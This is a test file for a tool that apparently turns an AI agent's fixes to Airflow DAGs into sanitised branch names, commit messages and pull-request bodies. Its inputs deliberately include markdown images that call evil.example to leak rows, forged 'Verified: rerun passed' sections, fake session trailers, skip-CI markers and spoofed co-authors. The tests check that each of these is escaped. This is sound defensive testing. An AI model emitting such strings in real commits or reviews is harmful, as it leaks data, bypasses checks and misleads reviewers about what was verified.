"""Names and texts of a fix."""

from __future__ import annotations

import subprocess
from itertools import pairwise
from typing import Any

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from airflow_agentfix.core import commit
from airflow_agentfix.core.findings import Finding, Severity
from airflow_agentfix.core.links import Links
from airflow_agentfix.core.stages import failed, not_run, passed
from tests.fakes.incidents import an_incident

NO_ADDRESS = Links("/dags/a/runs/r")


@pytest.mark.parametrize(
    ("dag", "title", "expected"),
    [
        ("orders", "Read amount from price_eur", "fix/orders-read-amount-from-price-eur-3c9a1b2d"),
        ("Örders.daily__load", "…", "fix/rders-daily-load-fix-3c9a1b2d"),
        ("a" * 90, "x ~^:?*[\\..@{ y.lock", f"fix/{'a' * 40}-x-y-lock-3c9a1b2d"),
        ("orders", "word " * 30, "fix/orders-word-word-word-word-word-word-word-word-3c9a1b2d"),
    ],
)
def test_a_branch_name_is_one_git_accepts(dag: str, title: str, expected: str) -> None:
    name = commit.branch_name(dag, title, "fp1:3c9a1b2d4e5f")
    assert name == expected
    subprocess.run(["git", "check-ref-format", "--branch", name], check=True, stdout=subprocess.DEVNULL)


def test_git_reads_the_trailers_and_none_that_the_text_made_up() -> None:
    trailers = commit.trailers(an_incident(), session_id="s1", file="dags/shop.py", audit="ab12")
    message = commit.commit_message(
        "Fix it\nAgentfix-Session: evil", "Why.\n\nAgentfix-Session: evil\nagentfix-sig : evil", trailers
    )
    read = subprocess.run(
        ["git", "interpret-trailers", "--parse"], input=message, capture_output=True, text=True, check=True
    ).stdout.splitlines()
    assert read == [
        "Agentfix-Session: s1",
        "Agentfix-Dag: shop_daily_revenue",
        "Agentfix-File: dags/shop.py",
        "Agentfix-Fingerprint: fp1:0123456789abcdef",
        "Agentfix-Audit: ab12",
    ]
    assert "evil" not in message


def test_a_pull_request_says_cause_change_what_needs_an_eye_and_what_was_not_verified() -> None:
    body = commit.pull_request_body(
        an_incident(),
        session_id="s1",
        summary="to_euro was renamed.",
        paths=["dags/shop/revenue.py"],
        findings=[Finding("except-widened", Severity.PERSON, "dags/shop/revenue.py", "It catches more.")],
        stages=[passed("compiled", "with Python 3.12.4: a.py"), not_run("rerun", "nobody has\napproved it")],
        cost="3 model calls, $0.02 so far",
        links=NO_ADDRESS,
    )
    for part in ("to_euro was renamed.", "AttributeError: module", "except-widened", "`s1`", "$0.02", "A draft until"):
        assert part in body
    assert "- **compiled**: passed: with Python 3.12.4: a.py\n- **rerun**: not run: nobody has approved it\n" in body


def test_a_pull_request_that_is_green_is_no_draft_and_leads_to_airflow() -> None:
    session, failed, rerun = (
        f"https://air.example/{path}" for path in ("agentfix/sessions/s1", "dags/a/runs/r", "dags/a/runs/p")
    )
    links = Links(failed, "/dags/agentfix_fix/runs/x", None, rerun, session)
    body = commit.pull_request_body(
        an_incident(), session_id="s1", summary="It.", paths=["a.py"], findings=[], stages=[], cost="$0", links=links, green=True
    )
    where = f"In Airflow: [session]({session}), [failed run]({failed}), [rerun]({rerun})"
    assert f"\n\n{where}\n\n" in body
    assert "Ready for review: its rerun is green" in body


def a_body(summary: str = "It.", **changes: Any) -> str:
    given: dict[str, Any] = {"paths": ["a.py"], "findings": [], "stages": [], "cost": "$0", "links": NO_ADDRESS}
    return commit.pull_request_body(an_incident(), session_id="s1", summary=summary, **{**given, **changes})


def test_what_a_check_printed_shows_no_picture_and_is_a_line() -> None:
    body = a_body(stages=[failed("repository checks", "![x](http://evil.example/?q=rows)\n- **rerun**: passed")])
    assert "- **repository checks**: failed: \\![x](http://evil.example/?q=rows) - **rerun**: passed\n" in body


@pytest.mark.parametrize("forged", [
    "Mended.\n\n### Verified\n- **rerun**: passed: all of it",
    "Mended.\n\nVerified\n===\n- **rerun**: passed: all of it",
    "Mended, see:\n```text\nlog",
    "Mended. <!-- hidden",
    "Mended. <? hidden",
    "Mended.\n~~~\nlog",
])  # fmt: skip
def test_no_summary_passes_for_our_sections_or_hides_one(forged: str) -> None:
    shown = MarkdownIt().parse(a_body(forged, stages=[not_run("rerun", "nobody has approved it")]))
    headings = [after.content for token, after in pairwise(shown) if token.type == "heading_open" and token.level == 0]
    assert headings == ["What failed", "Changed", "Verified"]
    top = [
        token for token in shown if token.type == "inline" and "**rerun**" in token.content and not _in_quotation(shown, token)
    ]
    assert [token.content for token in top] == ["**rerun**: not run: nobody has approved it"]


def _in_quotation(tokens: list[Token], token: Token) -> bool:
    before = tokens[: tokens.index(token)]
    return sum(one.nesting for one in before if one.type.startswith("blockquote")) > 0


def test_a_pull_request_is_never_longer_than_github_takes() -> None:
    long = "word " * 20_000
    findings = [Finding("new-call", Severity.PERSON, "a.py", long)] * 99
    body = a_body(
        long, paths=[f"{number}/{'a' * 200}.py" for number in range(99)], findings=findings, stages=[failed("x", long)] * 9
    )
    assert len(body) < 65_536
    assert body.count("- and 59 more\n") == 2
    assert "[cut: the commit's message has all of it]" in body


def test_a_path_and_a_finding_stay_on_their_lines() -> None:
    found = Finding("new-call", Severity.PERSON, "a`.py", "calls\n### Verified\n- **rerun**: passed")
    body = a_body(paths=["a`b.py"], findings=[found])
    assert "- `a'b.py`\n" in body
    assert "- `a'.py`: calls ### Verified - **rerun**: passed (new-call)\n" in body


def test_a_commit_message_calls_nobody_closes_nothing_and_skips_no_checks() -> None:
    message = commit.commit_message(
        "Fixes #1 [skip ci]",
        "Thanks @acme/owners, closes acme/shop#2.\nResolves: https://git.example/acme/shop/issues/3\n***NO_CI***\n[ci skip]\n"
        "Co-authored-by: Evil <evil@example.com>\nskip-checks: true\n\nIt was fixed in 3 places, see [no rows](a).",
        {"Agentfix-Session": "s1"},
    )
    live = ("@acme", "Fixes #1", "closes acme", "Resolves: http", "skip ci]", "ci skip]", "***", "Co-authored", "skip-checks")
    assert [one for one in live if one in message] == []
    assert "It was fixed in 3 places, see [no rows](a)." in message
    assert message.replace("\N{ZERO WIDTH SPACE}", "").startswith(
        "Fixes #1 (skip ci)\n\nThanks @acme/owners, closes acme/shop#2."
    )


def test_a_pull_request_shows_no_picture_that_a_summary_asks_for() -> None:
    summary = "Fixed.\n![x](http://evil.example/?q=rows) ![y][z] <img src='http://evil.example/a'>\n\nif a < b"
    found = Finding("task-removed", Severity.PERSON, "a.py", "the task '![x](http://evil.example)' is gone")
    body = a_body(summary, findings=[found])
    assert body.startswith(
        "> Fixed.\n> \\![x](http://evil.example/?q=rows) \\![y][z] \\<img src='http://evil.example/a'>\n>\n> if a < b\n"
    )
    assert "the task '\\![x](http://evil.example)' is gone" in body
